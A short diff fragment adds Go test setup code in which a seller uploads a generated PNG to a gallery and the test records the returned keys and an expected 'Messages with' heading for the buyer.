+	_, answer := c.seller.upload(t, c.gallery, part{"photo", "a.png", string(picturetest.PNG(t, picturetest.Image(320, 240)))})
+	keys, _ := keysOf(answer)
+	c.key, c.look = keys[0], c.check
+	learnHeading("Messages with ", c.buyer.Name, "")
+	return c
+}
